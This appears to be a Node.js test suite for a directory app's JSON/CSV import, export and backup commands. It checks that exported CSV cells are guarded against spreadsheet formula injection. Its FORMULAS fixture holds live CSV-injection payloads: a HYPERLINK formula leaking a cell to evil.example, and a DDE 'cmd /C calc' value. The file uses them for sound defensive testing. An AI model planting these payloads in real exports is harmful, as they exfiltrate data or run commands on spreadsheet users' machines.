// Import and export (signpost export / import / backup): a JSON export
// imported into a new database exports byte for byte the same; the CSV is a
// spreadsheet's view, formula-safe; an import with errors reports every one
// with its record and field and changes nothing; --dry-run changes nothing;
// a spreadsheet edit is applied and recorded as a revision; a backup taken
// while the server serves and writes is consistent and serves.

import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { sql } from '../http/lib/api.mjs';
import {
  ORGS, call, cli, createToken, get, newOrg, parseCsv, startServer, tempDb, writeCsv,
} from './lib/curation.mjs';

const CSV_COLUMNS = ['id', 'slug', 'name', 'summary', 'description', 'website', 'kind', 'coverage',
  'audiences', 'topics', 'phones', 'emails', 'last_reviewed', 'source', 'updated_at', 'archived_at'];
// Values a spreadsheet would run as formulas.
const FORMULAS = {
  summary: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  description: '+1+cmd|\' /C calc\'!A0',
  coverage: '-2+3',
  source: '@SUM(1,1)',
};

let db, server, token, dir;
const file = (name) => path.join(dir, name);

async function exportTo(format, name, dbPath = db.dbPath) {
  const r = await cli(['export', '--format', format, '--db', dbPath, '--out', file(name)]);
  assert.equal(r.code, 0, `export ${format}: ${r.stderr}`);
  return readFileSync(file(name), 'utf8');
}

// The line each CSV row starts on (rows as parsed; fields may hold newlines).
function rowLines(rows) {
  const lines = [];
  let line = 1;
  for (const r of rows) {
    lines.push(line);
    line += 1 + r.reduce((n, f) => n + (f.match(/\n/g) || []).length, 0);
  }
  return lines;
}

before(async () => {
  db = await tempDb('signpost-exchange-');
  dir = db.dir;
  token = await createToken(db.dbPath, 'alice', 'editor');
  server = await startServer({ dbPath: db.dbPath });
  // Some curation history for the files to carry: a record whose cells look
  // like formulas, an archived record and a reviewed one.
  const made = await call(server.base, 'POST', ORGS, { token, json: newOrg('formula-test', FORMULAS) });
  assert.equal(made.status, 201, made.text);
  const gone = await call(server.base, 'POST', ORGS, { token, json: newOrg('archived-one') });
  assert.equal(gone.status, 201);
  const del = await call(server.base, 'DELETE', `${ORGS}/archived-one`, { token, ifMatch: gone.headers.get('etag') });
  assert.equal(del.status, 200);
  const rev = await call(server.base, 'POST', `${ORGS}/nspcc/review`, { token });
  assert.equal(rev.status, 200);
});
after(async () => {
  await server?.stop();
  await db?.remove();
});

describe('JSON export and import', () => {
  it('export, import into a new database, export again: byte-identical', async () => {
    const first = await exportTo('json', 'first.json');
    const doc = JSON.parse(first);
    assert.equal(doc.format, 'signpost/1');
    assert.ok(doc.organisations.some((o) => o.slug === 'archived-one' && o.archived_at), 'archived records are exported');
    assert.ok(doc.organisations.some((o) => o.slug === 'nspcc' && o.reviewed_by === 'alice'));
    const stdout = await cli(['export', '--format', 'json', '--db', db.dbPath]);
    assert.equal(stdout.stdout, first, 'stdout and --out give the same bytes');

    const fresh = path.join(dir, 'new.db');
    assert.ok(!existsSync(fresh), 'the database does not exist yet');
    const mk = await cli(['import', file('first.json'), '--db', fresh]);
    assert.equal(mk.code, 0, mk.stderr);
    assert.match(mk.stderr, new RegExp(`imported ${doc.organisations.length} organisations`));
    const second = await exportTo('json', 'second.json', fresh);
    assert.equal(second, first, 'the re-export is byte for byte the export');
    // The new database serves the same directory.
    const s = await startServer({ dbPath: fresh });
    try {
      const a = await get(`${server.base}${ORGS}?per_page=100`);
      const b = await get(`${s.base}${ORGS}?per_page=100`);
      assert.deepEqual(b.json, a.json);
    } finally {
      await s.stop();
    }
  });
});

describe('CSV export', () => {
  it('has a header row, one row per organisation, ;-separated lists, and quotes formulas behind an apostrophe', async () => {
    const text = await exportTo('csv', 'all.csv');
    const json = JSON.parse(await exportTo('json', 'for-csv.json'));
    assert.ok(text.endsWith('\r\n'));
    const rows = parseCsv(text);
    assert.deepEqual(rows[0], CSV_COLUMNS, 'the header row');
    const data = rows.slice(1);
    assert.equal(data.length, json.organisations.length, 'one row per organisation (archived ones too)');
    const col = (name) => CSV_COLUMNS.indexOf(name);
    for (const r of data) assert.equal(r.length, CSV_COLUMNS.length, `row ${r[1]} has every column`);
    for (const o of json.organisations) {
      const r = data.find((x) => x[col('id')] === o.id);
      assert.ok(r, `a row for ${o.slug}`);
      assert.equal(r[col('slug')], o.slug);
      assert.equal(r[col('audiences')], o.audiences.join(';'));
      assert.equal(r[col('topics')], o.topics.join(';'));
      assert.equal(r[col('archived_at')], o.archived_at ?? '');
      assert.equal(r[col('last_reviewed')], o.last_reviewed ?? '');
    }
    const multi = data.find((r) => r[col('audiences')].includes(';'));
    assert.ok(multi, 'some organisation has several audiences');

    const f = data.find((r) => r[col('slug')] === 'formula-test');
    for (const [field, value] of Object.entries(FORMULAS)) {
      assert.equal(f[col(field)], `'${value}`, `${field} is written behind an apostrophe`);
      const quoted = `"'${value.replace(/"/g, '""')}"`;
      assert.ok(text.includes(quoted), `${field} is a quoted cell: ${quoted}`);
    }
    for (const r of data) {
      for (const cell of r) assert.ok(!/^[=+\-@]/.test(cell), `no cell starts like a formula: ${cell}`);
    }
  });
});

describe('imports with errors', () => {
  it('a JSON file: every error with its record and field, a non-zero exit, nothing changed', async () => {
    const before_ = await exportTo('json', 'before-bad.json');
    const doc = JSON.parse(before_);
    const o = doc.organisations;
    o[0].name = '';
    o[1].kind = 'club';
    o[2].contacts = [{ kind: 'phone', label: 'Line', value: '555 0100', hours: null }];
    o[3].colour = 'blue';
    o[4].audiences = ['martians'];
    o[5].website = 'not a url';
    o[6].slug = o[7].slug;
    o[0].summary = 'This valid change must not be applied either.';
    writeFileSync(file('bad.json'), JSON.stringify(doc, null, 2));
    const r = await cli(['import', file('bad.json'), '--db', db.dbPath]);
    assert.notEqual(r.code, 0, 'a non-zero exit');
    const expected = [
      '/organisations/0/name: must not be empty',
      '/organisations/1/kind: must be one of',
      '/organisations/2/contacts/0/value: must be a UK phone number',
      '/organisations/3/colour: is not a field',
      '/organisations/4/audiences/0: must be one of',
      '/organisations/5/website: must be a web address',
      '/organisations/7/slug: repeats /organisations/6',
    ];
    for (const e of expected) assert.ok(r.stderr.includes(`  ${e}`), `reports ${e}:\n${r.stderr}`);
    assert.match(r.stderr, /has 7 errors; nothing was imported/);
    assert.equal(await exportTo('json', 'after-bad.json'), before_, 'nothing changed');
  });

  it('a CSV file: every error with its line and field, a non-zero exit, nothing changed', async () => {
    const before_ = await exportTo('json', 'before-bad-csv.json');
    const rows = parseCsv(await exportTo('csv', 'to-break.csv'));
    const col = (name) => CSV_COLUMNS.indexOf(name);
    const lines = rowLines(rows);
    const target = (slug) => rows.findIndex((r) => r[col('slug')] === slug);
    const a = target('childline'), b = target('ceop'), c = target('childnet'), d = target('ukcis');
    rows[a][col('name')] = '';
    rows[b][col('kind')] = 'club';
    rows[c][col('website')] = 'www.example.org';
    rows[c][col('audiences')] = 'parents;martians';
    rows[d][col('phones')] = '12345';
    rows[d][col('emails')] = 'nobody-at-example.org';
    const extra = [...rows[a]];
    extra[col('id')] = '';
    extra[col('slug')] = 'Bad Slug';
    extra[col('name')] = 'A new row with a bad slug';
    rows.push(extra);
    const lineOf = rowLines(rows);
    writeFileSync(file('bad.csv'), writeCsv(rows));
    const r = await cli(['import', file('bad.csv'), '--db', db.dbPath]);
    assert.notEqual(r.code, 0);
    const expected = [
      `line ${lines[a]} /name: must not be empty`,
      `line ${lines[b]} /kind: must be one of`,
      `line ${lines[c]} /website: must be a web address`,
      `line ${lines[c]} /audiences/1: must be one of`,
      `line ${lines[d]} /contacts/`, // the phone
      `line ${lineOf[rows.length - 1]} /slug: must be lower-case`,
    ];
    for (const e of expected) assert.ok(r.stderr.includes(`  ${e}`), `reports ${e}:\n${r.stderr}`);
    assert.match(r.stderr, new RegExp(`line ${lines[d]} /contacts/\\d+/value: must be a UK phone number`));
    assert.match(r.stderr, new RegExp(`line ${lines[d]} /contacts/\\d+/value: must be an email address`));
    assert.match(r.stderr, /has 7 errors; nothing was imported/);
    // A row that does not fit the header is reported by its line (before
    // the records are checked).
    rows.push(['only', 'three', 'fields']);
    writeFileSync(file('short.csv'), writeCsv(rows));
    const s = await cli(['import', file('short.csv'), '--db', db.dbPath]);
    assert.notEqual(s.code, 0);
    assert.ok(s.stderr.includes(`  line ${rowLines(rows)[rows.length - 1]}: has 3 fields but the header has 16`), s.stderr);
    assert.equal(await exportTo('json', 'after-bad-csv.json'), before_, 'nothing changed');
  });

  it('--dry-run checks a good file and changes nothing', async () => {
    const before_ = await exportTo('json', 'before-dry.json');
    const doc = JSON.parse(before_);
    doc.organisations.find((o) => o.slug === 'childline').name = 'Childline (dry run)';
    writeFileSync(file('dry.json'), JSON.stringify(doc, null, 2));
    const r = await cli(['import', file('dry.json'), '--dry-run', '--db', db.dbPath]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, new RegExp(`would import ${doc.organisations.length} organisations`));
    const rows = parseCsv(await exportTo('csv', 'dry.csv'));
    rows[1][2] = 'Renamed in a dry run';
    writeFileSync(file('dry.csv'), writeCsv(rows));
    const c = await cli(['import', file('dry.csv'), '--dry-run', '--db', db.dbPath]);
    assert.equal(c.code, 0, c.stderr);
    assert.match(c.stderr, /would import/);
    const bad = await cli(['import', file('bad.json'), '--dry-run', '--db', db.dbPath]);
    assert.notEqual(bad.code, 0, 'a dry run of a bad file fails too');
    assert.equal(await exportTo('json', 'after-dry.json'), before_, 'nothing changed');
    assert.equal((await get(`${server.base}${ORGS}/childline`)).json.name, 'Childline');
  });
});

describe('a spreadsheet edit', () => {
  let beforeDoc, afterDoc;

  it('renaming one organisation in the CSV is applied, seen by the running server, and recorded as a revision by cli:import', async () => {
    beforeDoc = JSON.parse(await exportTo('json', 'before-edit.json'));
    const rows = parseCsv(await exportTo('csv', 'edit.csv'));
    const col = (name) => CSV_COLUMNS.indexOf(name);
    const row = rows.find((r) => r[col('slug')] === 'childline');
    row[col('name')] = 'Childline (renamed in a spreadsheet)';
    writeFileSync(file('edit.csv'), writeCsv(rows));
    const r = await cli(['import', file('edit.csv'), '--db', db.dbPath]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /imported \d+ organisations from/);
    afterDoc = JSON.parse(await exportTo('json', 'after-edit.json'));
    assert.equal(afterDoc.organisations.find((o) => o.slug === 'childline').name, 'Childline (renamed in a spreadsheet)');

    // The server notices another process's write within a second or so.
    let name;
    for (let i = 0; i < 30; i++) {
      name = (await get(`${server.base}${ORGS}/childline`)).json.name;
      if (name === 'Childline (renamed in a spreadsheet)') break;
      await sleep(100);
    }
    assert.equal(name, 'Childline (renamed in a spreadsheet)', 'the running server shows the change');
    const revs = (await call(server.base, 'GET', `${ORGS}/childline/revisions`, { token })).json.items;
    const last = revs[revs.length - 1];
    assert.equal(last.action, 'import');
    assert.equal(last.actor, 'cli:import');
    assert.equal(last.before.name, 'Childline');
    assert.equal(last.after.name, 'Childline (renamed in a spreadsheet)');
    assert.equal(last.n, revs.length);
  });

  it('changes nothing but the edited row', {
  }, () => {
    assert.ok(afterDoc, 'the previous test ran');
    const changed = afterDoc.organisations
      .filter((o) => JSON.stringify(o) !== JSON.stringify(beforeDoc.organisations.find((b) => b.id === o.id)))
      .map((o) => o.slug);
    assert.deepEqual(changed, ['childline']);
  });
});

describe('a CSV round trip', () => {
  it('export and import of an unchanged CSV keeps +44 numbers and formula-like text as they were', {
  }, async () => {
    const t = await tempDb('signpost-roundtrip-');
    try {
      const doc = JSON.parse(await exportTo('json', 'rt-source.json'));
      const o = doc.organisations.find((x) => x.slug === 'childline');
      o.summary = '=SUM(1,1)';
      o.contacts = [{ kind: 'phone', label: 'Childline', value: '+44 800 1111', hours: null }];
      writeFileSync(file('rt.json'), JSON.stringify(doc, null, 2));
      assert.equal((await cli(['import', file('rt.json'), '--db', t.dbPath])).code, 0);
      const csvPath = path.join(t.dir, 'rt.csv');
      assert.equal((await cli(['export', '--format', 'csv', '--db', t.dbPath, '--out', csvPath])).code, 0);
      const r = await cli(['import', csvPath, '--db', t.dbPath]);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(sql(t.dbPath, "SELECT summary FROM organisation WHERE slug = 'childline'")[0], '=SUM(1,1)');
    } finally {
      await t.remove();
    }
  });
});

// Values that start like a formula (OWASP: = + - @ TAB CR), that start with
// an apostrophe before one (which the guard must itself escape), and that
// start with an apostrophe before anything else (which it must leave alone).
const GUARD_VALUES = ['=1+1', '+44 800', '-x', '@home', '\tTAB', '\rCR', "'=not a formula", "''=two",
  "'plain", "it's fine", "'\tTAB", "'@home", "'''-three", "'"];
// What the CSV export writes for each, as bytes (the guard's one rule:
// views/csv.h).
const GUARD_CELLS = {
  '=1+1': `"'=1+1"`, '+44 800': `"'+44 800"`, '-x': `"'-x"`, '@home': `"'@home"`, '\tTAB': `"'\tTAB"`,
  '\rCR': `"'\rCR"`, "'=not a formula": `"''=not a formula"`, "''=two": `"'''=two"`, "'plain": "'plain",
  "it's fine": "it's fine", "'\tTAB": `"''\tTAB"`, "'@home": `"''@home"`, "'''-three": `"''''-three"`, "'": "'",
};
const GUARDED_FIELDS = ['name', 'summary', 'description', 'coverage', 'source'];

describe('a CSV round trip of values that start like formulas or with an apostrophe', () => {
  // Organisation i has GUARD_VALUES[i] as its name and description and
  // the others rotated through summary, coverage and source.
  const n = GUARD_VALUES.length;
  const rtSlug = (i) => `guard-rt-${i}`;
  const rtFields = (i) => Object.fromEntries(GUARDED_FIELDS.map((f, k) => [f, GUARD_VALUES[(i + [0, 1, 0, 2, 3][k]) % n]]));
  let src, dst, srcServer, dstServer, first, ids;

  before(async () => {
    src = await tempDb('signpost-guard-src-');
    dst = await tempDb('signpost-guard-dst-');
    const t = await createToken(src.dbPath, 'gail', 'editor');
    srcServer = await startServer({ dbPath: src.dbPath });
    ids = [];
    for (let i = 0; i < n; i++) {
      const r = await call(srcServer.base, 'POST', ORGS, { token: t, json: newOrg(rtSlug(i), rtFields(i)) });
      assert.equal(r.status, 201, r.text);
      ids.push(r.json.id);
    }
  });
  after(async () => {
    await srcServer?.stop();
    await dstServer?.stop();
    await src?.remove();
    await dst?.remove();
  });

  it('the export guards all six first characters, escapes an apostrophe before one, and leaves other apostrophes', async () => {
    const out = path.join(src.dir, 'first.csv');
    assert.equal((await cli(['export', '--format', 'csv', '--db', src.dbPath, '--out', out])).code, 0);
    first = readFileSync(out, 'utf8');
    const rows = parseCsv(first);
    const col = (name) => CSV_COLUMNS.indexOf(name);
    for (let i = 0; i < n; i++) {
      const row = rows.find((r) => r[col('slug')] === rtSlug(i));
      assert.ok(row, `a row for ${rtSlug(i)}`);
      const line = first.split('\r\n').find((l) => l.startsWith(`${ids[i]},`));
      for (const [field, value] of Object.entries(rtFields(i))) {
        assert.ok(line.includes(`,${GUARD_CELLS[value]},`), `${field} ${JSON.stringify(value)} is written as ${JSON.stringify(GUARD_CELLS[value])}: ${JSON.stringify(line)}`);
      }
    }
    for (const r of rows) {
      for (const cell of r) assert.ok(!/^[=+\-@\t\r]/.test(cell), `no cell starts like a formula: ${JSON.stringify(cell)}`);
    }
  });

  it('imported into a fresh database, every value is stored as it was and the export is the same bytes', async () => {
    assert.ok(first, 'the previous test ran');
    // The fresh database: the source's directory without these
    // organisations (a JSON import keeps every record and timestamp), so
    // the CSV alone creates them there.
    const json = JSON.parse((await cli(['export', '--format', 'json', '--db', src.dbPath])).stdout);
    json.organisations = json.organisations.filter((o) => !o.slug.startsWith('guard-rt-'));
    writeFileSync(path.join(dst.dir, 'base.json'), JSON.stringify(json));
    assert.ok(!existsSync(dst.dbPath), 'the database does not exist yet');
    const base = await cli(['import', path.join(dst.dir, 'base.json'), '--db', dst.dbPath]);
    assert.equal(base.code, 0, base.stderr);
    writeFileSync(path.join(dst.dir, 'first.csv'), first);
    const imp = await cli(['import', path.join(dst.dir, 'first.csv'), '--db', dst.dbPath]);
    assert.equal(imp.code, 0, imp.stderr);
    assert.match(imp.stderr, new RegExp(`imported ${n} organisations`), 'only the new organisations are written');

    dstServer = await startServer({ dbPath: dst.dbPath });
    for (let i = 0; i < n; i++) {
      const r = await get(`${dstServer.base}${ORGS}/${rtSlug(i)}`);
      assert.equal(r.status, 200, rtSlug(i));
      assert.equal(r.json.id, ids[i]);
      for (const [field, value] of Object.entries(rtFields(i))) {
        assert.equal(r.json[field], value, `${rtSlug(i)} ${field} is stored as it was`);
      }
    }

    const again = path.join(dst.dir, 'second.csv');
    assert.equal((await cli(['export', '--format', 'csv', '--db', dst.dbPath, '--out', again])).code, 0);
    const second = readFileSync(again, 'utf8');
    // An import stamps the records it creates with its own time (a
    // spreadsheet's row is a change now); every other byte is the same.
    let expected = first;
    for (let i = 0; i < n; i++) {
      const stamp = (text) => {
        const line = text.split('\r\n').find((l) => l.startsWith(`${ids[i]},`));
        const m = line.match(/\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ/g);
        assert.equal(m?.length, 1, `one timestamp (updated_at) in ${JSON.stringify(line)}`);
        return [line, m[0]];
      };
      const [line, was] = stamp(first);
      const [, now] = stamp(second);
      expected = expected.replace(line, line.replace(`,${was},`, `,${now},`));
    }
    assert.equal(second, expected, 'the re-export is the export, byte for byte (updated_at apart)');

    // Export, import, export on that database: nothing is changed, and
    // the two exports are the same bytes with no exception.
    const re = await cli(['import', again, '--db', dst.dbPath]);
    assert.equal(re.code, 0, re.stderr);
    assert.match(re.stderr, /imported 0 organisations/, 'every row reads back as it is stored');
    const third = await cli(['export', '--format', 'csv', '--db', dst.dbPath]);
    assert.equal(third.stdout, second, 'byte for byte');
  });
});

describe('backup', () => {
  it('taken while the server serves and a client writes, it passes integrity_check and serves', async () => {
    let stop = false, written = 0, n = 0, writerDone = false;
    const slugs = [];
    const writer = (async () => {
      while (!stop) {
        const slug = `backup-${++n}`;
        const r = await call(server.base, 'POST', ORGS, { token, json: newOrg(slug) });
        assert.equal(r.status, 201, r.text);
        slugs.push(slug);
        written++;
      }
    })().finally(() => { writerDone = true; });
    while (written < 5 && !writerDone) await sleep(5);
    const atStart = written;
    const backupPath = file('backup.db');
    const r = await cli(['backup', backupPath, '--db', db.dbPath]);
    const atEnd = written;
    await sleep(50);
    stop = true;
    await writer;
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /integrity ok/);
    assert.ok(written > atEnd, 'the client kept writing during and after the backup');
    assert.deepEqual(sql(backupPath, 'PRAGMA integrity_check'), ['ok']);
    assert.deepEqual(sql(backupPath, 'PRAGMA foreign_key_check'), []);
    const copied = sql(backupPath, "SELECT slug FROM organisation WHERE slug LIKE 'backup-%'");
    assert.ok(copied.length >= atStart && copied.length <= written, `${copied.length} of ${written} writes`);
    // Whole writes only: each copied record has its contacts and its revision.
    for (const slug of copied) {
      assert.deepEqual(sql(backupPath, `SELECT count(*) FROM contact c JOIN organisation o ON o.pk = c.org_pk WHERE o.slug = '${slug}'`), ['2']);
      assert.deepEqual(sql(backupPath, `SELECT count(*) FROM revision r JOIN organisation o ON o.id = r.entity_id WHERE o.slug = '${slug}'`), ['1']);
    }
    const s = await startServer({ dbPath: backupPath });
    try {
      const list = await get(`${s.base}${ORGS}?q=backup&per_page=100`);
      assert.equal(list.status, 200);
      const expected = sql(backupPath, 'SELECT count(*) FROM organisation WHERE archived_at IS NULL')[0];
      const all = await get(`${s.base}${ORGS}?per_page=1`);
      assert.equal(String(all.json.total), expected);
      for (const slug of copied.slice(0, 5)) {
        assert.equal((await get(`${s.base}${ORGS}/${slug}`)).status, 200, slug);
      }
      const tokenStill = await call(s.base, 'GET', '/api/v1/review-queue', { token });
      assert.equal(tokenStill.status, 200, 'the tokens come along');
    } finally {
      await s.stop();
    }
  });
});
